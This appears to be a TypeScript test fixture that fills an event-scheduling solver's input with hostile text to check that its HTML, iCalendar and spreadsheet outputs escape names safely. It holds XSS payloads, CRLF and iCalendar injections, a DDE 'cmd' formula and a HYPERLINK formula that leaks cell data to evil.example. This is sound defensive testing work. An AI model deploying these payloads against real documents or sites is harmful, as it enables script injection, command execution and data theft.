/**
 * One event whose every free text is hostile: HTML, CRLF, iCalendar syntax
 * and spreadsheet formulas, in the event's name and venue, the tables' names,
 * the clusters' names, regions, sectors, offers, seeks and attendees. Ids are
 * not free text (`ID_PATTERN`), so they use only what it lets through, at its
 * most awkward: dots, dashes, underscores. Every cluster meets (`mustMeet`),
 * so that each name reaches every output.
 */
import type { EventFile } from '../../solver';

export const HTML_SCRIPT = '<script>alert(1)</script>';
export const HTML_ATTRIBUTE = '"><img src=x onerror=alert(1)>';
export const CRLF_HEADER = 'Nom\r\nX-Injected: 1';
export const CRLF_VEVENT = 'Nom\r\nBEGIN:VEVENT\r\nUID:injected@evil.example\r\nSUMMARY:injected\r\nEND:VEVENT\r\nsuite';
export const ICAL_SYNTAX = 'a;b,c\\d:e\r\nEND:VCALENDAR\r\nX-Injected:1';
export const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"clic")';

/** Names starting as a spreadsheet formula does, as typed; leading tab and CR are trimmed by the event schema. */
export const FORMULA_STARTERS = ['=1+1', '+33 6 12 34 56 78', '-2+3', '@SUM(A1:A9)', '\t=cmd|\' /C calc\'!A0', '\r=1+2', HYPERLINK];

/** Ids at the edge of `ID_PATTERN`. */
export const CLUSTER_IDS = ['h.script', 'h-img', 'crlf_1', 'crlf.2-', 'ical..3', 'csv_-4'] as const;

/** The eight names a cluster, table or venue is given; each must come out literally wherever it is shown. */
export const HOSTILE_CLUSTER_NAMES: Record<(typeof CLUSTER_IDS)[number], string> = {
  'h.script': `${HTML_SCRIPT} Mont-Blanc`,
  'h-img': `${HTML_ATTRIBUTE} Axelera`,
  crlf_1: CRLF_HEADER,
  'crlf.2-': CRLF_VEVENT,
  'ical..3': ICAL_SYNTAX,
  'csv_-4': HYPERLINK,
};

export const EVENT_NAME = `${HTML_SCRIPT}${HTML_ATTRIBUTE} Journée\r\nX-Injected: 1`;
export const LOCATION = `Lyon; "centre", salle \\ 2:\r\nEND:VEVENT\r\n<b>gras</b>`;
export const TABLE_NAMES = ['=1+1', '+33 6 12 34 56 78', '@SUM(A1:A9)'];
export const ATTENDEE = `${HTML_ATTRIBUTE}\r\nATTENDEE:mailto:x@evil.example`;
export const OFFER = `${HTML_SCRIPT}; offre, \\ "quoted"`;
export const SEEK = `-2+3 ${HTML_ATTRIBUTE}`;
export const SECTOR = `<img src=y onerror=alert(2)> santé`;

/** A value the schema stores after trimming the edges, as every renderer then shows it. */
export const stored = (text: string): string => text.trim();

export function hostileEvent(id = 'hostile-day'): EventFile {
  return {
    event: {
      id,
      name: EVENT_NAME,
      timezone: 'Europe/Paris',
      location: LOCATION,
      sessions: [{ date: '2025-06-12', start: '09:00', end: '10:00' }],
      meetingMinutes: 20,
      tables: [
        { id: 'T1', name: TABLE_NAMES[0] },
        { id: 'T.2', name: TABLE_NAMES[1] },
        { id: 'T-3', name: TABLE_NAMES[2] },
      ],
      maxMeetingsPerCluster: 3,
    },
    clusters: CLUSTER_IDS.map((cid, i) => ({
      id: cid,
      name: HOSTILE_CLUSTER_NAMES[cid],
      region: FORMULA_STARTERS[i],
      sector: SECTOR,
      offers: [OFFER, ICAL_SYNTAX],
      seeks: [SEEK],
      attendees: [{ name: ATTENDEE, email: `contact${i}@cluster.example` }],
    })),
    requests: [{ from: 'h.script', to: 'csv_-4', priority: 1 }],
    constraints: {
      mustMeet: [
        ['h.script', 'h-img'],
        ['crlf_1', 'crlf.2-'],
        ['ical..3', 'csv_-4'],
      ],
    },
  };
}

/** What an HTML page must never contain: markup a name brought in. */
export const LIVE_MARKUP = [/<script>alert/i, /<img\b/i, /<b>gras/i];
